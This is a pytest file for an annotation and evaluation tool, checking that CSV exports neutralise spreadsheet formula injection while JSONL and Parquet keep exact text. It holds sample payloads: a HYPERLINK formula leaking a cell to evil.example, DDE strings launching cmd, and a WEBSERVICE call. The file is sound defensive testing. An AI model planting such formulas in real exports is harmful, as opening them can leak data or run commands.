"""CSV formula injection: hostile names and texts come out inert in every CSV, raw in JSONL.

Hostile values (model names, annotator names, rationales, audit causes and notes, judge names)
start with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return. In CSV each must come back (read
with the csv module) as the same text behind one leading single quote; numbers, negative ones
included, stay plain numbers; JSON Lines keeps the exact text.
"""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest
from sqlmodel import select

from annotate.commands.cli import main as annotate_main
from annotate.db.engine import session_scope
from annotate.db.models import Assignment
from annotate.services.annotate.judgments import submit_judgment
from annotate.services.studies.design import StudyDesign, create_study
from metaeval import csv_safe
from metaeval.cli import main as metaeval_main
from tests.fixtures.study_factory import make_benchmark, make_users

HOSTILE_A = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE_B = "@SUM(1+1)*cmd|' /C calc'!A0"
RATIONALE = "+1+cmd|' /C notepad'!A0"
PINS = {"instruction_version_no": 1, "content_revision": 1}
PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_inert(rows: list[list[str]]) -> None:
    """No cell starts with a formula character unless it is a plain number."""
    for row in rows:
        for cell in row:
            if cell.startswith(PREFIXES):
                float(cell)  # a number such as -0.25 is fine; anything else fails here


# --------------------------------------------------------------------------- the writer itself
@pytest.mark.parametrize("raw", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "-cmd", "＝1+1"])
def test_each_formula_prefix_gets_one_quote(raw):
    assert csv_safe.neutralise(raw) == "'" + raw


@pytest.mark.parametrize("value", ["-0.25", "+3", "1e-5", "-1.5E+3", "-inf", "a=b", "", "'=already", 3, -2.5,
                                   None, True])
def test_numbers_and_harmless_text_unchanged(value):
    assert csv_safe.neutralise(value) == value


def test_frame_keeps_numeric_columns_numeric():
    frame = pd.DataFrame({"model": ["-m", "ok"], "delta": [-1.5, 2.0], "n": [-3, 4]})
    text = csv_safe.frame_to_csv(frame)
    # written by hand: text cell quoted, numbers as pandas writes them
    assert text == "model,delta,n\n'-m,-1.5,-3\nok,2.0,4\n"
    back = pd.read_csv(io.StringIO(text))
    assert back["delta"].tolist() == [-1.5, 2.0] and back["n"].tolist() == [-3, 4]


# --------------------------------------------------------------------------- annotate export votes
@pytest.fixture()
def hostile_study(engine):
    with session_scope(engine) as s:
        make_benchmark(s, {("Domain 0", "Sub 00"): {7: [HOSTILE_A, HOSTILE_B]}})
        users = make_users(s, ["u1"]) | make_users(s, ["res"], role="researcher")
        study = create_study(session=s, actor=users["res"], design=StudyDesign(
            name="pilot", per_subdomain=1, overlap=1, annotators=["u1"], seed=1))
        task = s.exec(select(Assignment).where(Assignment.study_id == study.id)).one()
        submit_judgment(session=s, actor=users["u1"], assignment_id=task.id, choice="left",
                        rationale=RATIONALE, elapsed_s=12.0, submit_token="t1", **PINS)
    return engine


def test_export_votes_csv_neutralised_jsonl_lossless(hostile_study, db_url, tmp_path, capsys):
    csv_path, jsonl_path = tmp_path / "v.csv", tmp_path / "v.jsonl"
    assert annotate_main(["--db", db_url, "export", "votes", "--study", "pilot", "--format", "csv",
                          str(csv_path)]) == 0
    assert annotate_main(["--db", db_url, "export", "votes", "--study", "pilot", str(jsonl_path)]) == 0
    rows = list(csv.DictReader(csv_path.open(encoding="utf-8", newline="")))
    _assert_inert([list(r.values()) for r in rows])
    # models sorted by name: '=' (0x3d) < '@' (0x40), so model_a is HOSTILE_A
    assert rows[0]["model_a"] == "'" + HOSTILE_A and rows[0]["model_b"] == "'" + HOSTILE_B
    assert rows[0]["rationale"] == "'" + RATIONALE and rows[0]["elapsed_s"] == "12.0"
    raw = json.loads(jsonl_path.read_text(encoding="utf-8").splitlines()[0])
    assert (raw["model_a"], raw["model_b"], raw["rationale"]) == (HOSTILE_A, HOSTILE_B, RATIONALE)


def test_parquet_stays_lossless(hostile_study, tmp_path):
    from annotate.services.studies.votes_export import export_votes

    with session_scope(hostile_study) as s:
        res = make_users(s, ["res2"], role="researcher")["res2"]
        export_votes(session=s, actor=res, study_name="pilot", path=tmp_path / "v.parquet", fmt="parquet")
    frame = pd.read_parquet(tmp_path / "v.parquet")
    assert frame["rationale"].tolist() == [RATIONALE] and frame["model_a"].tolist() == [HOSTILE_A]


# --------------------------------------------------------------------------- audit tags
def test_audit_tags_csv(engine):
    from annotate.services.judges import audit_tags
    from tests.fixtures.audit_seed import STUDY, seed_audit

    seed_audit(engine)
    from annotate.services.accounts import users as users_service
    from annotate.services.judges.audit import disagreement_table

    with session_scope(engine) as s:
        res = users_service.get_user_by_username(session=s, username="res")
        table = disagreement_table(session=s, actor=res, study_name=STUDY)
        first = table.iloc[0]
        audit_tags.add_cause(session=s, actor=res, name="-cause")
        audit_tags.add_tag(session=s, actor=res, item_id=int(first["item_id"]), judge=str(first["judge"]),
                           method=str(first["method"]), cause="-cause", note="=WEBSERVICE(\"http://x\")")
        text = audit_tags.export_tags(session=s, actor=res, study_name=STUDY, fmt="csv")
        jsonl = audit_tags.export_tags(session=s, actor=res, study_name=STUDY, fmt="jsonl")
    rows = list(csv.DictReader(io.StringIO(text)))
    _assert_inert([list(r.values()) for r in rows])
    assert rows[-1]["cause"] == "'-cause" and rows[-1]["note"] == "'=WEBSERVICE(\"http://x\")"
    assert json.loads(jsonl.splitlines()[-1])["note"] == "=WEBSERVICE(\"http://x\")"
    _assert_inert(_cells(csv_safe.frame_to_csv(table)))  # the audit page's table download


# --------------------------------------------------------------------------- metaeval CLI
RENAME = {"a": HOSTILE_A, "b": HOSTILE_B, "c": "-c", "h1": "+h1", "h2": "\th2", "h3": "\rh3"}


def _hostile_copy(src, dst):
    rows = []
    for line in src.read_text(encoding="utf-8").splitlines():
        r = json.loads(line)
        for k in ("model_a", "model_b", "judge"):
            r[k] = RENAME.get(r[k], r[k])
        rows.append(json.dumps(r))
    dst.write_text("\n".join(rows) + "\n", encoding="utf-8")
    return dst


def _run_metaeval(args, capsys) -> str:
    assert metaeval_main(args) == 0
    return capsys.readouterr().out


def test_metaeval_reports_csv(tmp_path, capsys):
    from pathlib import Path

    fixtures = Path(__file__).resolve().parents[2] / "fixtures"
    human = _hostile_copy(fixtures / "stats_votes_human.jsonl", tmp_path / "h.jsonl")
    judge = _hostile_copy(fixtures / "stats_votes_judge1.jsonl", tmp_path / "j.jsonl")
    common = ["--votes", str(human), "--bootstrap", "20", "--format", "csv"]
    agreement = _cells(_run_metaeval(["agreement", *common, "--judge", f"@judge={judge}"], capsys))
    _assert_inert(agreement)
    assert agreement[1][1] == "'@judge"
    rankings = _cells(_run_metaeval(["rankings", *common, "--judge", f"@rj={judge}"], capsys))
    _assert_inert(rankings)
    assert {"'" + HOSTILE_A, "'" + HOSTILE_B, "'-c"} <= {c for row in rankings for c in row}
    annotators = _cells(_run_metaeval(["annotators", *common], capsys))
    _assert_inert(annotators)
    assert {"'+h1", "'\th2", "'\rh3"} <= {row[0] for row in annotators}
    ratings = tmp_path / "r.jsonl"
    ratings.write_text("".join(json.dumps({"item_id": i, "system": s, "rater": "+r", "criterion": "=c",
                                           "score": (i * 3 + k) % 5 + 1}) + "\n"
                               for i in range(6) for k, s in enumerate(["-s1", "s2"])), encoding="utf-8")
    corr = _cells(_run_metaeval(["correlation", "--ratings", str(ratings), "--judge", f"+jj={ratings}",
                                 "--bootstrap", "20", "--format", "csv"], capsys))
    _assert_inert(corr)
    assert {row[0] for row in corr[1:]} == {"'+jj"} and "'=c" in {row[1] for row in corr[1:]}


def test_line_breaks_stay_inside_their_cell():
    # Python's csv quotes only lineterminator characters: with "\n" a bare "\r" split the row
    buf = io.StringIO()
    csv_safe.writer(buf, lineterminator="\n").writerow(["a\rb", "\rc", "x\ny"])
    assert buf.getvalue() == '"a\rb","\'\rc","x\ny"\n'
    assert _cells(buf.getvalue()) == [["a\rb", "'\rc", "x\ny"]]
